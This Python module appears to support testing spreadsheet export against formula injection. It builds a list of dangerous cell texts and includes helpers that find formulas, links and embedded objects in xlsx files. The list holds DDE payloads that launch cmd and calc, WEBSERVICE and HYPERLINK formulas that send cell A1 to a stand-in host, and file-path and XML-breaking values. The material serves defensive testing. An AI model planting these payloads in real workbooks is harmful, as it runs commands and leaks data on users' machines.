"""Texts that a spreadsheet could take for something else, and a look into a workbook for anything that is no text."""

import io
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
FIRST_SIGNS = (
    "=", "+", "-", "@", "\t", "\n", "\r", "\0", "\x1b", *FULL_WIDTH, "'", "''", '"', " =", "\u3000=", "\u200b=",
    "\ufeff=", "\u202e=", "\xa0=", "\n=", "\t=", "%", "|", "~", "!", "{=", "#", "$", "^", ";=",
)
CALLS = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("https://example.invalid/?"&A1,"看")', 'WEBSERVICE("http://example.invalid/"&A1)',
    'IMPORTXML("https://example.invalid","//a")', "cmd|'/C calc'!A0", "cmd|' /C notepad'!'A1'",
    'DDE("cmd";"/C calc";"")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", 'FILTERXML("<a/>","//b")',
    "INDIRECT(\"R\"&ROW())", "A1",
)
MARKUP = (
    "<r>x</r>", "<r><t>红</t></r>", "<r></r></is></c><c r=\"ZZ1\"><f>1+1</f></c><r></r>", "<f>1+1</f>", "&lt;f&gt;",
    "]]><f>1</f>", "<!--", "<![CDATA[=1]]>", "<hyperlink ref=\"A1\"/>", "_x000D_", "_x005F_x000D_", "_x003D_1+1",
    "_x0000_", "__x0041_", "_xFFFF_", "_x00e9_", "&#61;1+1", "&amp;", "{\"a\": 1}", "https://example.invalid/",
    "mailto:a@example.invalid", "internal:'说明'!A1", "external:c:\\x.xlsx", "file:///etc/passwd", "\\\\server\\share",
    "ftp://example.invalid", "1-06", "0010", "1e5", "2024-01-02", "50%", "TRUE", "#REF!", "#N/A", "1/2", "００１",
    "𝟙+𝟙", "😀" * 9, "e\u0301", "第一行\n第二行\n\n", "  前后有空格  ", "\n", "\ta\t",
    "a\r\nb", "a\x85b", "a\u2028b", "\x01\x02",
)
DANGEROUS = tuple(dict.fromkeys(
    [f"{sign}{call}" for sign in FIRST_SIGNS for call in CALLS] + list(MARKUP)
    + [f"{sign}{text}" for sign in ("=", "'", "@") for text in MARKUP]
))
FORMULA_OR_LINK = {"f", "hyperlink", "hyperlinks", "oleObject", "ddeLink", "externalReference", "webPublishItem"}


def texts(book):
    """Every text of a workbook (bytes), as a reader who knows the escapes of the format sees it."""
    return [
        unescape(cell.value) if cell.data_type == "s" else cell.value
        for sheet in load_workbook(io.BytesIO(book)) for row in sheet.iter_rows() for cell in row
        if isinstance(cell.value, str)
    ]


def live_parts(book):
    """Everything in a workbook (bytes) that could do something: (part, element) of formulas, links and the like."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        found = [
            (name, element.tag.rpartition("}")[2])
            for name in parts.namelist() if name.endswith((".xml", ".rels", ".vml"))
            for element in ElementTree.fromstring(parts.read(name)).iter()
            if element.tag.rpartition("}")[2] in FORMULA_OR_LINK or element.get("TargetMode") == "External"
        ]
        return found + [(name, "part") for name in parts.namelist() if not name.endswith((".xml", ".rels", ".vml"))]
